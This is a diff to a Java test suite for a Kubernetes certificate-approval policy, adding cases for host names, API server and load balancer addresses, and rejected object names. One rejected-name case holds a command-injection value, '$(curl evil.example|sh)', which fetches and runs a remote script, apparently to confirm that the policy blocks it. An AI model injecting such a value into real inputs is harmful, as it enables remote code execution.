@@ -19,6 +19,8 @@ import dev.metricsserver.model.NodeFacts.Address;
 import dev.metricsserver.model.SampleNode;
 import io.fabric8.kubernetes.api.model.certificates.v1.CertificateSigningRequestCondition;
 import io.fabric8.kubernetes.api.model.certificates.v1.CertificateSigningRequestConditionBuilder;
+import java.net.InetAddress;
+import java.net.UnknownHostException;
 import java.security.spec.ECGenParameterSpec;
 import java.time.Instant;
 import java.util.Arrays;
@@ -32,6 +34,7 @@ import java.util.stream.Stream;
 import org.bouncycastle.asn1.ASN1Boolean;
 import org.bouncycastle.asn1.ASN1Integer;
 import org.bouncycastle.asn1.ASN1ObjectIdentifier;
+import org.bouncycastle.asn1.ASN1OctetString;
 import org.bouncycastle.asn1.ASN1Sequence;
 import org.bouncycastle.asn1.DERBMPString;
 import org.bouncycastle.asn1.DERBitString;
@@ -97,6 +100,16 @@ class ApprovalPolicyTest {
             new Address("InternalIP", "10.244.1.255"),
             new Address("InternalIP", "10.244.4.0")),
         new Right("no address", d -> d.names(dns("node-1"))),
+        new Right(
+            "a host name that differs by its domain",
+            d -> d.names(dns("node-1"), dns("node-1.novalocal")),
+            new Address("Hostname", "node-1"),
+            new Address("Hostname", "node-1.novalocal")),
+        new Right(
+            "the short host name of a Node with a long name",
+            d -> d.node("node-8.example.com").names(dns("node-8.example.com"), dns("node-8")),
+            new Address("Hostname", "node-8.example.com"),
+            new Address("InternalDNS", "node-8")),
         new Right("a year", d -> d.lifetime = 366 * DAY),
         new Right(
             "more groups", d -> d.groups = List.of("a", "system:authenticated", "system:nodes")),
@@ -141,6 +154,11 @@ class ApprovalPolicyTest {
 
   static Stream<Case> never() {
     return Stream.of(
+        new Case("a query in its name", Rule.ObjectName, d -> d.name = "x?y"),
+        new Case("a fragment in its name", Rule.ObjectName, d -> d.name = "x#y"),
+        new Case("a command in its name", Rule.ObjectName, d -> d.name = "$(curl evil.example|sh)"),
+        new Case("a line break in its name", Rule.ObjectName, d -> d.name = "x\ny"),
+        new Case("a long name", Rule.ObjectName, d -> d.name = "x".repeat(254)),
         new Case(
             "another signer", Rule.Signer, d -> d.signer = "kubernetes.io/kube-apiserver-client"),
         new Case("approved", Rule.Undecided, d -> d.conditions = decided("Approved")),
@@ -373,7 +391,7 @@ class ApprovalPolicyTest {
         "a.b.svc.example.com",
         "metrics-server.kube-system",
         "node-2",
-        "node-1.other",
+        "10-0-0-1.default.pod",
         "a.b.c\u0000.d",
         "ä.b.c",
         "a".repeat(64) + ".b.c",
@@ -394,7 +412,11 @@ class ApprovalPolicyTest {
         "::",
         "::1",
         "fe80::1",
-        "ff02::1");
+        "ff02::1",
+        "64:ff9b::a60:1",
+        "64:ff9b:1::a60:1",
+        "::a60:1",
+        "2002:a60:1::1");
   }
 
   static Stream<Later> later() {
@@ -421,6 +443,39 @@ class ApprovalPolicyTest {
             new Draft().names(dns("node-2.example.com")),
             Optional.of(node(Map.of(), new Address("Hostname", "Node-2.example.com"))),
             "node-2.example.com is also an address of Node node-2"),
+        claimed(
+            "the API servers' DNS name",
+            dns("api.prod.example.com"),
+            "api.prod.example.com belongs to an API server"),
+        claimed(
+            "the API servers' virtual address",
+            ip("192.168.7.200"),
+            "192.168.7.200 belongs to an API server"),
+        claimed(
+            "the API servers' load balancer",
+            ip("203.0.113.7"),
+            "203.0.113.7 belongs to an API server"),
+        claimed(
+            "a name that the API servers' wildcard covers",
+            dns("a.k8s.example.com"),
+            "a.k8s.example.com belongs to an API server"),
+        claimed(
+            "a Service's load balancer",
+            ip("192.168.7.240"),
+            "192.168.7.240 is an address of the load balancer of Service shop/web"),
+        claimed(
+            "a Service's load balancer by name",
+            dns("lb.example.com"),
+            "lb.example.com is an address of the load balancer of Service shop/web"),
+        claimed(
+            "a pod of a StatefulSet",
+            dns("vault-0.vault-internal.vault"),
+            "vault-0.vault-internal.vault can be the name of a Service or a pod in namespace"
+                + " vault"),
+        claimed(
+            "a Service with the node's name",
+            dns("node-1.prod"),
+            "node-1.prod can be the name of a Service or a pod in namespace prod"),
         podOf("10.244.2.0", "node-2"),
         podOf("10.244.3.255", "node-2"),
         podOf("fd00:10:244:1:0:0:0:1", "node-2"),
@@ -428,7 +483,7 @@ class ApprovalPolicyTest {
             "an API server's address",
             new Draft().names(ip("192.168.7.100")),
             Optional.of(node(Map.of(), new Address("InternalIP", "192.168.7.100"))),
-            "192.168.7.100 is an address of an API server, and Node node-1 has no label"));
+            "192.168.7.100 belongs to an API server, and Node node-1 has no label"));
   }
 
   @ParameterizedTest
@@ -439,7 +494,10 @@ class ApprovalPolicyTest {
     var node =
         right.addresses().isEmpty()
             ? usualNode()
-            : node(Map.of(), right.addresses().toArray(Address[]::new));
+            : node(
+                draft.user.substring("system:node:".length()),
+                Map.of(),
+                right.addresses().toArray(Address[]::new));
     assertThat(verdict(draft, Optional.of(node))).isEqualTo(new Approved());
   }
 
@@ -491,6 +549,16 @@ class ApprovalPolicyTest {
   }
 
   @Test
+  void controlPlaneNode_withNameOfAPIServer_isApproved() {
+    var controlPlane =
+        node(
+            Map.of(ApprovalPolicy.CONTROL_PLANE, ""),
+            new Address("InternalDNS", "api.prod.example.com"));
+    assertThat(verdict(new Draft().names(dns("api.prod.example.com")), Optional.of(controlPlane)))
+        .isEqualTo(new Approved());
+  }
+
+  @Test
   void aControlPlaneNodeHasTheAddressOfItsAPIServer() {
     var controlPlane =
         node(Map.of(ApprovalPolicy.CONTROL_PLANE, ""), new Address("InternalIP", "192.168.7.100"));
@@ -501,15 +569,40 @@ class ApprovalPolicyTest {
   @Test
   void waitsUntilTheAPIServersAreKnown() {
     var context =
-        ClusterContext.of(
-            List.of("10.96.0.0/16"),
-            List.of(),
-            List.of("cluster.local"),
-            a -> List.of(),
-            n -> List.of());
+        new ClusterContext(
+            ClusterContext.APIServers.of(List.of(), List.of()),
+            ClusterContext.Services.of(List.of("10.96.0.0/16"), true, Map.of()),
+            ClusterContext.Names.of(List.of("cluster.local"), List.of()),
+            new ClusterContext.Nodes(a -> List.of(), n -> List.of()));
     var request = (Valid) new Draft().parsed();
     assertThat(ApprovalPolicy.judge(request, Optional.of(usualNode()), context))
         .isInstanceOf(Deferred.class);
+  }
+
+  @Test
+  void addressInGuessedServiceRange_waits() {
+    var guessed =
+        new ClusterContext(
+            context().apiServers(),
+            ClusterContext.Services.of(List.of("192.168.0.0/13"), false, Map.of()),
+            context().names(),
+            context().nodes());
+    assertThat(
+            ApprovalPolicy.judge((Valid) new Draft().parsed(), Optional.of(usualNode()), guessed))
+        .isEqualTo(new Deferred(Reason.of(Reason.Code.PossibleServiceAddress, "192.168.7.1")));
+  }
+
+  @Test
+  void certificatesOfAPIServersUnknown_waits() {
+    var unknown =
+        new ClusterContext(
+            ClusterContext.APIServers.of(List.of("192.168.7.100"), List.of()),
+            context().services(),
+            context().names(),
+            context().nodes());
+    assertThat(
+            ApprovalPolicy.judge((Valid) new Draft().parsed(), Optional.of(usualNode()), unknown))
+        .isEqualTo(new Deferred(Reason.of(Reason.Code.APIServersUnknown)));
   }
 
   @Test
@@ -541,12 +634,40 @@ class ApprovalPolicyTest {
                 Addresses.podNetworks(node).stream()
                     .map(network -> Map.entry(network, List.of(node.name()))))
             .collect(Collectors.toMap(Map.Entry::getKey, Map.Entry::getValue));
-    return ClusterContext.of(
-        List.of("10.96.0.0/16", "fd00:10:96::/108"),
-        List.of("192.168.7.100"),
-        List.of("Cluster.Local", "example.cluster"),
-        address -> claims.getOrDefault(address, List.of()),
-        network -> pods.getOrDefault(network, List.of()));
+    return new ClusterContext(
+        ClusterContext.APIServers.of(
+            List.of("192.168.7.100"),
+            List.of("api.prod.example.com", "192.168.7.200", "203.0.113.7", "*.k8s.example.com")),
+        ClusterContext.Services.of(
+            List.of("10.96.0.0/16", "fd00:10:96::/108"),
+            true,
+            Map.of("192.168.7.240", "shop/web", "lb.example.com", "shop/web")),
+        ClusterContext.Names.of(
+            List.of("Cluster.Local", "example.cluster"), List.of("default", "vault", "prod")),
+        new ClusterContext.Nodes(
+            address -> claims.getOrDefault(address, List.of()),
+            network -> pods.getOrDefault(network, List.of())));
+  }
+
+  private static Later claimed(String name, GeneralName asked, String reason) {
+    var address =
+        asked.getTagNo() == GeneralName.dNSName
+            ? ((DERIA5String) asked.getName()).getString()
+            : address(asked);
+    return new Later(
+        name,
+        new Draft().names(asked),
+        Optional.of(node(Map.of(), new Address("InternalIP", address))),
+        reason);
+  }
+
+  private static String address(GeneralName asked) {
+    try {
+      return InetAddress.getByAddress(((ASN1OctetString) asked.getName()).getOctets())
+          .getHostAddress();
+    } catch (UnknownHostException e) {
+      throw new IllegalArgumentException(e);
+    }
   }
 
   private static Later podOf(String address, String other) {
@@ -580,8 +701,12 @@ class ApprovalPolicyTest {
   }
 
   static NodeFacts node(Map<String, String> labels, Address... addresses) {
+    return node("node-1", labels, addresses);
+  }
+
+  private static NodeFacts node(String name, Map<String, String> labels, Address... addresses) {
     return new NodeFacts(
-        "node-1",
+        name,
         labels,
         List.of(addresses),
         List.of(),
